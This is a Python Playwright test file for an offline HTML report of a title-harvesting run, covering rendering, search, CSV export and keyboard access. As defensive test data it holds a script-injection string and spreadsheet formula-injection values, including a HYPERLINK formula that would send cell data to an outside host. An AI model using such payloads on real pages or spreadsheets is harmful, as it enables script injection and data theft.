"""The report in a real browser, offline: it draws, searches, and reports no error."""

import csv
from collections.abc import Callable
from pathlib import Path
from typing import Literal

import chromium
import pytest
from made_run import RUN, make_run
from playwright.sync_api import Browser

from harvester.model import Outcome
from harvester.pages import LANGUAGES, Language, load_texts
from harvester.pages.report.history import read_overview
from harvester.pages.report.page import report_page
from harvester.stores import open_store

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(chromium.CHROMIUM is None, reason=chromium.MISSING),
]

COUNTS = {"harvested": "800", "unmatched": "195", "failed": "5", "pending": "0"}
HOSTILE = "<script>alert(1)</script>"


def outcome(number: int) -> Outcome:
    """Let a fifth of the titles be unmatched, and 5 fail with a hostile reason."""
    if number % 200 == 0:
        return Outcome("failed", reason=HOSTILE)
    if number % 5 == 0:
        return Outcome("unmatched", reason="not_found" if number % 2 else "only_person")
    return Outcome("harvested", "movie", number)


def write_report(
    folder: Path, language: Language = "en", outcome: Callable[[int], Outcome] = outcome
) -> Path:
    """Write the page of a run of 1,000 titles."""

    async def make() -> str:
        await make_run(folder / "lake", 1000, outcome)
        async with open_store(str(folder / "lake")) as store:
            overview = await read_overview(store, RUN)
        return report_page(
            overview, language, resume=None, retry="harvester retry", verify="verify"
        )

    path = folder / "report.html"
    path.write_text(chromium.run(make()), encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def pages(tmp_path_factory: pytest.TempPathFactory) -> dict[Language, Path]:
    """Write the page of a run of 1,000 titles in each language."""
    folder = tmp_path_factory.mktemp("report")
    return {language: write_report(folder / language, language) for language in LANGUAGES}


@pytest.mark.parametrize("width", chromium.WIDTHS)
@pytest.mark.parametrize("scheme", chromium.SCHEMES)
@pytest.mark.parametrize("language", LANGUAGES)
def test_the_report_is_drawn_and_complains_of_nothing(
    browser: Browser,
    pages: dict[Language, Path],
    width: int,
    scheme: Literal["light", "dark"],
    language: Language,
) -> None:
    """Every chart has marks, nothing is wider than the screen, and no request leaves the page."""
    with chromium.opened(browser, pages[language], width=width, scheme=scheme) as seen:
        page = seen.page
        assert seen.complaints == []
        assert [url for url in seen.requests if not url.startswith(("file:", "data:"))] == []
        assert seen.fits()
        assert page.locator("html").get_attribute("lang") == language
        assert page.locator("rect.sent").count() == 10
        assert page.locator("circle.throttled").count() == 2
        assert page.locator(".latency circle").count() == 6
        assert page.locator(".strip rect").count() == 4
        assert page.locator(".bar span").count() == 3
        boxes = [page.locator("rect.sent").nth(n).bounding_box() for n in range(10)]
        assert all(box and box["height"] > 20 and box["width"] > 5 for box in boxes)
        red, green, blue = seen.colour("body")[4:-1].split(", ")[:3]
        assert (int(red) + int(green) + int(blue) < 200) is (scheme == "dark")


def test_search_filters_the_rows(browser: Browser, pages: dict[Language, Path]) -> None:
    """By id, by reason, by outcome; a hostile reason is text; the pager shows the rest."""
    with chromium.opened(browser, pages["en"]) as seen:
        page = seen.page
        rows = page.locator("#rows tr")
        assert page.locator("#found").inner_text() == "200 of 200 titles"
        assert rows.count() == 15
        page.locator("#search").fill("tt0000200")
        assert [rows.nth(n).locator("code").inner_text() for n in range(rows.count())] == [
            "tt0000200"
        ]
        assert HOSTILE in rows.first.inner_text()
        page.locator("#search").fill("person")
        assert page.locator("#found").inner_text() == "95 of 200 titles"
        page.locator("#search").fill("person tt000001")
        assert page.locator("#found").inner_text() == "1 of 200 titles"
        page.locator("#search").fill("nothing has this")
        assert rows.count() == 0
        page.locator("#search").fill("")
        page.locator("#outcome").select_option("failed")
        assert rows.count() == 5
        page.locator("#outcome").select_option("unmatched")
        for _ in range(12):
            page.locator("#on").click()
        assert page.locator("#place").inner_text() == "181\N{EN DASH}195 of 195"
        assert page.locator("#on").is_disabled()
        links = [rows.first.locator("a").nth(n).get_attribute("href") for n in range(2)]
        imdb_id = rows.first.locator("code").inner_text()
        assert links == [
            f"https://www.imdb.com/title/{imdb_id}/",
            f"https://www.themoviedb.org/redirect?external_source=imdb_id&external_id={imdb_id}",
        ]
        assert seen.complaints == []


def test_what_is_found_is_saved_as_a_csv(browser: Browser, pages: dict[Language, Path]) -> None:
    """The button saves the rows of the search, quoted."""
    with chromium.opened(browser, pages["en"]) as seen:
        seen.page.locator("#outcome").select_option("failed")
        with seen.page.expect_download() as download:
            seen.page.locator("#save").click()
        assert download.value.suggested_filename == f"{RUN}-missing.csv"
        lines = Path(download.value.path()).read_text(encoding="utf-8").splitlines()
        assert lines[0] == "id,kind,outcome,reason"
        assert len(lines) == 6
        assert f'tt0000200,movie,failed,"{HOSTILE}"' in lines


def saved(seen: chromium.Seen, name: str) -> tuple[str, list[list[str]]]:
    """Press a chart's button; return the name of the file and its lines."""
    with seen.page.expect_download() as download:
        seen.page.locator(f"#save-{name}").click()
    with Path(download.value.path()).open(encoding="utf-8", newline="") as file:
        return download.value.suggested_filename, list(csv.reader(file))


@pytest.mark.parametrize("language", LANGUAGES)
def test_the_figures_of_every_chart_are_saved_as_a_csv(
    browser: Browser, pages: dict[Language, Path], language: Language
) -> None:
    """Each button saves what its chart draws, with heads in the page's language."""
    t = load_texts(language)
    with chromium.opened(browser, pages[language]) as seen:
        buttons = seen.page.locator("button[id^=save-]:visible")
        names = [str(buttons.nth(n).get_attribute("id"))[5:] for n in range(buttons.count())]
        assert names == ["outcomes", "reasons", "pace", "latency", "files"]
        file, outcomes = saved(seen, "outcomes")
        assert file == f"{RUN}-outcomes.csv"
        assert outcomes == [
            [t("report.reasons.outcome"), t("report.reasons.count")],
            *([t(f"outcome.{name}"), count] for name, count in COUNTS.items()),
        ]
        reasons = saved(seen, "reasons")[1]
        assert ["5", HOSTILE, HOSTILE, t("outcome.failed")] in reasons
        assert sum(int(line[0]) for line in reasons[1:]) == 200
        pace = saved(seen, "pace")[1]
        assert len(pace) == 1 + seen.page.locator("rect.sent").count()
        assert sum(int(line[2]) > 0 for line in pace[1:]) == 2
        latency = saved(seen, "latency")[1]
        assert [line[0] for line in latency[1:]] == seen.page.locator(
            ".latency tbody th"
        ).all_inner_texts()
        files = saved(seen, "files")[1]
        assert len(files) == 1 + seen.page.locator(".strip rect").count()
        assert all(float(line[2]) < float(line[3]) for line in files[1:])
        assert seen.complaints == []


def test_no_cell_of_the_csv_is_a_formula(browser: Browser, tmp_path: Path) -> None:
    """What a spreadsheet would calculate is saved as text; everything else as it is."""
    reasons = [
        *('=HYPERLINK("http://h/?"&A1,"x")', "+1+1", "-2+3", "@SUM(1)", " =1", "\uff1d1"),
        *('a "quoted", reason', "http_500"),
    ]

    def failing(number: int) -> Outcome:
        return Outcome("failed", reason=reasons[number % len(reasons)])

    with chromium.opened(browser, write_report(tmp_path, outcome=failing)) as seen:
        with seen.page.expect_download() as download:
            seen.page.locator("#save").click()
        with Path(download.value.path()).open(encoding="utf-8", newline="") as file:
            saved = {row["reason"] for row in csv.DictReader(file)}
    assert saved == {f"'{reason}" for reason in reasons[:6]} | set(reasons[6:])


def test_the_keyboard_reaches_everything_and_the_theme_stays(
    browser: Browser, pages: dict[Language, Path]
) -> None:
    """Tab goes from the skip link through every control; the theme survives a reload."""
    with chromium.opened(browser, pages["en"]) as seen:
        page = seen.page
        reached = seen.reached(60)
        assert reached[0] == "a"
        for control in ("button#theme", "input#search", "select#outcome", "button#save"):
            assert control in reached
        assert reached.count("a") >= 30
        light = seen.colour("body")
        page.locator("#theme").focus()
        assert page.locator("#theme").inner_text() == load_texts("en")("page.dark")
        page.keyboard.press("Enter")
        assert seen.colour("body") != light
        dark = seen.colour("body")
        page.reload()
        assert seen.colour("body") == dark
        assert page.locator("#theme").inner_text() == load_texts("en")("page.light")
        assert seen.complaints == []
